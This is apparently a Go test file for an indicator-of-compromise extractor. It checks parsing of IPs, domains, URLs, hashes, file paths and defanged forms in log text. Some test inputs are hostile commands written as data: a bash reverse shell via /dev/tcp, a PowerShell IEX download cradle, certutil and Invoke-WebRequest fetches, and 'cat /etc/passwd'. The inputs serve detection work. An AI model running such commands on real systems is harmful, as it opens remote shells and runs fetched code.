package ioc

import (
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"
)

// brief renders matches compactly: "type value", with " <in TYPE" for a
// nested match, " =TEXT" when the text as written differs and " (decoded)".
func brief(ms []Match) []string {
	var out []string
	for _, m := range ms {
		s := string(m.Type) + " " + m.Value
		if m.Text != m.Value && !m.Decoded {
			s += " =" + m.Text
		}
		if m.Within != "" {
			s += " <in " + string(m.Within)
		}
		if m.Decoded {
			s += " (decoded)"
		}
		out = append(out, s)
	}
	return out
}

// extractTests are the table of TestExtract: real-looking log and command
// line text per indicator type, with every match expected.
var extractTests = []struct {
	name  string
	in    string
	types []Type
	want  []string
}{
	// IPv4
	{"ipv4 in switch", `netsh trace start capture=yes IPv4.Address=10.20.30.40 tracefile=x`, nil,
		[]string{"ipv4 10.20.30.40"}},
	{"ipv4 octet range", `a 256.1.1.1 b 255.255.255.255 c 0.0.0.0`, nil,
		[]string{"ipv4 255.255.255.255", "ipv4 0.0.0.0"}},
	{"ipv4 versions are not addresses", `build 10.0.17763.1 and 1.2.3.4.5 and v1.2.3.4`, nil, nil},
	{"ipv4 with port and cidr", `connect 192.168.1.10:445, block 10.0.0.0/8.`, nil,
		[]string{"ipv4 192.168.1.10", "ipv4 10.0.0.0"}},
	{"ipv4 reverse name is a name", `PTR 4.3.2.1.in-addr.arpa`, nil,
		[]string{"dns 4.3.2.1.in-addr.arpa"}},
	{"ipv4 end of sentence", `The beacon went to 185.220.101.4.`, nil,
		[]string{"ipv4 185.220.101.4"}},

	// IPv6
	{"ipv6 forms", `a fe80::1%eth0 b [2001:db8::ff00:42:8329]:443 c ::1 d 2001:0db8:0000:0000:0000:ff00:0042:8329`, nil,
		[]string{"ipv6 fe80::1", "ipv6 2001:db8::ff00:42:8329", "ipv6 ::1", "ipv6 2001:0db8:0000:0000:0000:ff00:0042:8329"}},
	{"ipv6 not times macs or code", `at 12:34:56 mac 00:1a:2b:3c:4d:5e std::string Foo::Bar ::`, nil, nil},
	{"ipv6 mapped ipv4", `from ::ffff:10.1.2.3 port 80`, nil,
		[]string{"ipv6 ::ffff:10.1.2.3", "ipv4 10.1.2.3 <in ipv6"}},
	{"ipv6 invalid", `2001:db8:::1 and 1:2:3:4:5:6:7:8:9`, nil, nil},

	// DNS
	{"dns tld validated", `resolve update.microsoft.com then bad.domain.iandom and host.co.uk`, nil,
		[]string{"dns update.microsoft.com", "dns host.co.uk"}},
	{"dns public suffix alone is not a host", `the co.uk registry`, nil, nil},
	{"dns file names with unknown tlds", `run setup.exe and notes.txt then svchost.exe`, nil, nil},
	{"dns wildcard tld", `site www.example.ck`, nil, []string{"dns www.example.ck"}},
	{"dns method calls and variables", `(New-Object Net.WebClient).DownloadString($host.name) document.write(x)`, nil, nil},
	{"dns trailing dot and case", `Query for MAIL.Contoso.COM. failed`, nil, []string{"dns MAIL.Contoso.COM"}},
	{"dns bad labels", `x -bad.example.com y`, nil, []string{"dns bad.example.com"}},
	{"dns punycode", `visit xn--80ak6aa92e.xn--p1ai now`, nil, []string{"dns xn--80ak6aa92e.xn--p1ai"}},

	// URLs
	{"url with userinfo port query fragment",
		`wget ftp://admin:s3cret@files.example.org:2121/pub/x.bin?x=1#frag;`, nil,
		[]string{"url ftp://admin:s3cret@files.example.org:2121/pub/x.bin?x=1#frag", "dns files.example.org <in url"}},
	{"url ip host and path ip",
		`certutil -urlcache -split -f http://127.0.0.1/ ok`, nil,
		[]string{"url http://127.0.0.1/", "ipv4 127.0.0.1 <in url"}},
	{"url intranet single label host",
		`Invoke-WebRequest -Uri http://badguyserver/pwnme"`, nil,
		[]string{"url http://badguyserver/pwnme", "dns badguyserver <in url"}},
	{"url ipv6 host",
		`GET http://[2001:db8::7]:8080/a`, nil,
		[]string{"url http://[2001:db8::7]:8080/a", "ipv6 2001:db8::7 <in url"}},
	{"url in parentheses and sentence",
		`(see https://en.wikipedia.org/wiki/Go_(language)). Also https://a.example.com/x.`, nil,
		[]string{"url https://en.wikipedia.org/wiki/Go_(language)", "dns en.wikipedia.org <in url",
			"url https://a.example.com/x", "dns a.example.com <in url"}},
	{"url quoted in powershell",
		`IEX (New-Object Net.WebClient).DownloadString('http://10.0.0.5:8000/a.ps1')`, nil,
		[]string{"url http://10.0.0.5:8000/a.ps1", "ipv4 10.0.0.5 <in url"}},
	{"url bad host or port", `http://999.1.1.1/ http://a.com:99999/ http://-/ http:// x`, nil,
		[]string{"dns a.com"}},
	{"url unknown scheme", `javascript://x.com gopher://x.com`, nil,
		[]string{"dns x.com", "dns x.com"}},
	{"url file scheme", `file:///etc/passwd`, nil, []string{"url file:///etc/passwd"}},
	{"url redirect inside query",
		`https://t.example.net/r?u=https://evil.example.com/p`, nil,
		[]string{"url https://t.example.net/r?u=https://evil.example.com/p", "dns t.example.net <in url",
			"url https://evil.example.com/p <in url", "dns evil.example.com <in url"}},
	{"url percent decoded",
		`GET /x?next=http%3A%2F%2F203.0.113.9%2Fdrop.ps1 via http://proxy.example.com/go?u=http%3A%2F%2F203.0.113.9%2Fdrop.ps1`, nil,
		[]string{"url http://proxy.example.com/go?u=http%3A%2F%2F203.0.113.9%2Fdrop.ps1", "dns proxy.example.com <in url",
			"url http://proxy.example.com/go?u=http://203.0.113.9/drop.ps1 <in url (decoded)",
			"url http://203.0.113.9/drop.ps1 <in url (decoded)", "ipv4 203.0.113.9 <in url (decoded)"}},

	// E-mail
	{"email forms",
		`From: User <user@microsoft.com> cc first.last+tag@mail.example.co.uk (User XYZ)>`, nil,
		[]string{"email user@microsoft.com", "dns microsoft.com <in email",
			"email first.last+tag@mail.example.co.uk", "dns mail.example.co.uk <in email"}},
	{"email local part is not a host", `bob.smith@example.org`, nil,
		[]string{"email bob.smith@example.org", "dns example.org <in email"}},
	{"email bad domain", `root@localhost admin@corp.local x@y`, nil, nil},

	// Hashes
	{"hashes delimited by non-hex",
		`MD5=D41D8CD98F00B204E9800998ECF8427E,SHA1=da39a3ee5e6b4b0d3255bfef95601890afd80709 SHA256=e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855`, nil,
		[]string{"md5_hash D41D8CD98F00B204E9800998ECF8427E", "sha1_hash da39a3ee5e6b4b0d3255bfef95601890afd80709",
			"sha256_hash e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855"}},
	{"hash runs of other lengths",
		`id 0123456789abcdef0123456789abcdef0 guid 8a2e0370-7334-4a3b-9c1d-0123456789ab`, nil, nil},
	{"hash filler and numbers",
		`x 00000000000000000000000000000000 y aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa`, nil, nil},
	{"hash in url path",
		`https://www.virustotal.com/gui/file/275a021bbfb6489e54d471899f7db9d1663fc695ec2fe2a2c4538aabf651fd0f`, nil,
		[]string{"url https://www.virustotal.com/gui/file/275a021bbfb6489e54d471899f7db9d1663fc695ec2fe2a2c4538aabf651fd0f",
			"dns www.virustotal.com <in url",
			"sha256_hash 275a021bbfb6489e54d471899f7db9d1663fc695ec2fe2a2c4538aabf651fd0f <in url"}},

	// Windows paths
	{"windows drive quoted with spaces",
		`"C:\Program Files (x86)\Google\Chrome\Application\chrome.exe" --type=renderer`, allTypes[:],
		[]string{`windows_path C:\Program Files (x86)\Google\Chrome\Application\chrome.exe`}},
	{"windows unquoted folder spaces, file name ends at space",
		`C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE /n report.doc`, allTypes[:],
		[]string{`windows_path C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE`}},
	{"windows command line switches and double spaces",
		`.\reg  query add mscfile\\\\open`, allTypes[:],
		[]string{`windows_path .\reg`}},
	{"windows unc device and nt prefixes",
		`copy \\10.1.2.3\c$\temp\a.exe \\.\pipe\msagent_12 \\?\C:\Windows\x.dll \??\C:\Windows\system32\conhost.exe`, allTypes[:],
		[]string{`windows_path \\10.1.2.3\c$\temp\a.exe`, "ipv4 10.1.2.3 <in windows_path",
			`windows_path \\.\pipe\msagent_12`, `windows_path \\?\C:\Windows\x.dll`,
			`windows_path \??\C:\Windows\system32\conhost.exe`}},
	{"windows unc host name",
		`net use \\fileserver.corp.example.com\share`, allTypes[:],
		[]string{`windows_path \\fileserver.corp.example.com\share`, "dns fileserver.corp.example.com <in windows_path"}},
	{"windows registry keys and accounts are not paths",
		`reg add "HKLM\SOFTWARE\Microsoft\Windows\CurrentVersion\Run" /v x CONTOSO\bob`, allTypes[:], nil},
	{"windows env var and escaped separators",
		`%TEMP%\svc.exe and tracefile=C:\\Users\\user\\AppData\\Local\\Temp\\b.txt`, allTypes[:],
		[]string{`windows_path %TEMP%\svc.exe`, `windows_path C:\\Users\\user\\AppData\\Local\\Temp\\b.txt`}},
	{"windows file names are not hosts",
		`C:\Users\bob\Downloads\invoice.zip and C:\tools\install.sh`, allTypes[:],
		[]string{`windows_path C:\Users\bob\Downloads\invoice.zip`, `windows_path C:\tools\install.sh`}},
	{"windows rooted path needs two components",
		`echo \x and "\Windows\System32\cmd.exe"`, allTypes[:],
		[]string{`windows_path \Windows\System32\cmd.exe`}},
	{"windows folder names do not end with a space",
		`dir C:\Users\bob then cd \Windows\Temp`, allTypes[:],
		[]string{`windows_path C:\Users\bob`, `windows_path \Windows\Temp`}},

	// Linux paths
	{"linux absolute relative home",
		`bash -c "cat /etc/passwd > ~/out.txt; ./run.sh ../lib/x.so"`, allTypes[:],
		[]string{"linux_path /etc/passwd", "linux_path ~/out.txt", "linux_path ./run.sh", "linux_path ../lib/x.so"}},
	{"linux switches dates and urls are not paths",
		`cmd /c dir /s 2024/01/02 and/or https://example.com/a/b`, allTypes[:],
		[]string{"url https://example.com/a/b", "dns example.com <in url"}},
	{"linux dev tcp",
		`bash -i >& /dev/tcp/10.0.0.1/4242 0>&1`, allTypes[:],
		[]string{"linux_path /dev/tcp/10.0.0.1/4242", "ipv4 10.0.0.1 <in linux_path"}},

	// Defanged
	{"defanged everything",
		`hxxps[://]evil[.]example[.]com/a 8.8[.]8(.)8 bob[at]evil{.}com hXXp://x[dot]example[.]org`, nil,
		[]string{"url https://evil.example.com/a =hxxps[://]evil[.]example[.]com/a",
			"dns evil.example.com =evil[.]example[.]com <in url",
			"ipv4 8.8.8.8 =8.8[.]8(.)8",
			"email bob@evil.com =bob[at]evil{.}com", "dns evil.com =evil{.}com <in email",
			"url http://x.example.org =hXXp://x[dot]example[.]org", "dns x.example.org =x[dot]example[.]org <in url"}},

	// Type selection
	{"types select output only",
		`http://evil.example.com/a 1.2.3.4`, []Type{DNS},
		[]string{"dns evil.example.com <in url"}},
}

func TestExtract(t *testing.T) {
	for _, tt := range extractTests {
		t.Run(tt.name, func(t *testing.T) {
			got := brief(Extract(tt.in, tt.types...))
			if diff := cmp.Diff(tt.want, got); diff != "" {
				t.Errorf("Extract(%q) mismatch (-want +got):\n%s", tt.in, diff)
			}
		})
	}
}

func TestOffsetsAndText(t *testing.T) {
	inputs := []string{
		`x hxxp://a[.]example[.]com/p?q=1 y bob(at)corp[.]example.org 10[.]0[.]0[.]1`,
		`C:\Windows\x.exe http://[::1]:80/ \\srv.example.com\s ./a/b`,
		`[.][.][.]evil[.]com[.]`,
	}
	for _, in := range inputs {
		for _, m := range Extract(in, Types()...) {
			if m.Start < 0 || m.End > len(in) || m.Start > m.End {
				t.Fatalf("%q: bad offsets %+v", in, m)
			}
			if !m.Decoded && in[m.Start:m.End] != m.Text {
				t.Errorf("%q: Text %q != input[%d:%d] %q", in, m.Text, m.Start, m.End, in[m.Start:m.End])
			}
		}
	}
}

func TestOptions(t *testing.T) {
	in := `see hxxp://evil[.]example[.]com/a and 10.1.2.3 and 10[.]9[.]8[.]7`
	got := brief(ExtractWith(in, Options{TopLevel: true}))
	want := []string{"url http://evil.example.com/a =hxxp://evil[.]example[.]com/a", "ipv4 10.1.2.3", "ipv4 10.9.8.7 =10[.]9[.]8[.]7"}
	if diff := cmp.Diff(want, got); diff != "" {
		t.Errorf("TopLevel (-want +got):\n%s", diff)
	}
	got = brief(ExtractWith(in, Options{NoDefang: true}))
	want = []string{"ipv4 10.1.2.3"}
	if diff := cmp.Diff(want, got); diff != "" {
		t.Errorf("NoDefang (-want +got):\n%s", diff)
	}
}

func TestUniqueAndByType(t *testing.T) {
	ms := Extract(`a.example.com 1.2.3.4 a.example.com http://a.example.com/ 1.2.3.4`)
	got := ByType(ms)
	want := map[string][]string{
		"dns":  {"a.example.com"},
		"ipv4": {"1.2.3.4"},
		"url":  {"http://a.example.com/"},
	}
	if diff := cmp.Diff(want, got); diff != "" {
		t.Errorf("ByType (-want +got):\n%s", diff)
	}
	if n := len(Unique(ms)); n != 3 {
		t.Errorf("Unique: %d matches, want 3", n)
	}
}

func TestParseTypes(t *testing.T) {
	got, err := ParseTypes("IPv4", "url, dns", "sha256", "ipv4")
	if err != nil {
		t.Fatal(err)
	}
	if diff := cmp.Diff([]Type{IPv4, URL, DNS, SHA256}, got); diff != "" {
		t.Errorf("ParseTypes (-want +got):\n%s", diff)
	}
	if _, err := ParseTypes("ipv5"); err == nil || !strings.Contains(err.Error(), `unknown IoC type "ipv5"`) {
		t.Errorf("ParseTypes(ipv5) error = %v", err)
	}
	if got, err := ParseTypes(); got != nil || err != nil {
		t.Errorf("ParseTypes() = %v, %v; want nil, nil", got, err)
	}
}
